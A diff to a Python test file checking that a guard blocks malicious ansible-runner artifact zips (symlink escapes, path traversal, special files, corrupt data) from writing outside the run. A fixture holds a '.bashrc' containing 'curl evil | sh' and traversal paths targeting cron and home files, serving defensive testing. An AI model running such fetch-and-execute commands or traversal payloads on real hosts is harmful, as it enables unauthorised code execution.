@@ -162,16 +162,19 @@ def _state(root: Path) -> dict:
 
 def test_a_nodes_zip_cannot_write_outside_the_run(fake, victim, tmp_path):
     """The zip holds ``x -> victim`` then ``x/.bashrc`` (0755): ansible-runner's processor alone would overwrite
-    the victim's file and make it executable. Through the guard the victim is as it was, nothing stays in the
-    controller's temporary directory, and the events' results arrive."""
+    the victim's file and make it executable. Through the guard the zip is read (its directory only), never
+    unpacked: the victim is as it was, nothing stays in the controller's temporary directory, and the region's
+    hosts are unreachable with the reason (a node that sends this is not trusted for its results either)."""
     before = _state(victim)
     evil = _zip_record([("x", str(victim).encode(), 0o120777), ("x/.bashrc", b"curl evil | sh\n", 0o100755)])
     (fake / "answer").write_bytes(_answer(["eu1", "eu2"], extra=evil))
     outcome, run = _run(["eu1", "eu2"])
     assert _state(victim) == before
     assert list((tmp_path / "ctl-tmp").iterdir()) == []
-    assert run.error is None, run.error
-    assert {n: r["ping"] for n, r in outcome.results.items()} == {"eu1": "pong", "eu2": "pong"}
+    says = "the worker's artifacts zip holds a symlink: 'x'"
+    assert run.error and says in run.error, run.error
+    for name in ("eu1", "eu2"):
+        assert outcome.results[name]["unreachable"] and says in outcome.results[name]["msg"]
 
 
 def _big_event() -> bytes:
@@ -189,8 +192,16 @@ def _big_event() -> bytes:
         (_big_event(), {"max_line_bytes": 4096}, "a line of the worker's stream exceeded 4096 bytes"),
         (_big_event() * 3, {"max_stream_bytes": 12000}, "the worker's stream exceeded 12000 bytes"),
         (_zip_record([("a", b"z" * 9000, 0o100644)]), {"max_stream_bytes": 2000}, "stream exceeded 2000 bytes"),
+        (_zip_record([("../../.bashrc", b"x", 0o100644)]), {}, "zip holds a path outside its directory"),
+        (_zip_record([("/etc/cron.d/x", b"x", 0o100644)]), {}, "zip holds a path outside its directory"),
+        (_zip_record([("fifo", b"", 0o010644)]), {}, "zip holds a special file"),
+        (b'{"zipfile": 6}\n' + base64.b64encode(b"nozip!"), {}, "zip is not a zip"),
+        (b'{"zipfile": 6}\n' + b"!!!!!!!!", {}, "zip is not a zip"),
     ],
-    ids=["text", "not-object", "unknown", "zip-size-text", "zip-size-negative", "long-line", "too-big", "big-zip"],
+    ids=[
+        "text", "not-object", "unknown", "zip-size-text", "zip-size-negative", "long-line", "too-big", "big-zip",
+        "zip-dotdot", "zip-absolute", "zip-fifo", "zip-garbage", "zip-not-base64",
+    ],
 )
 def test_a_stream_that_breaks_the_protocol_fails_the_region(fake, victim, extra, limits, says):
     """The region's hosts are unreachable with the guard's reason (the results that came before are not kept:
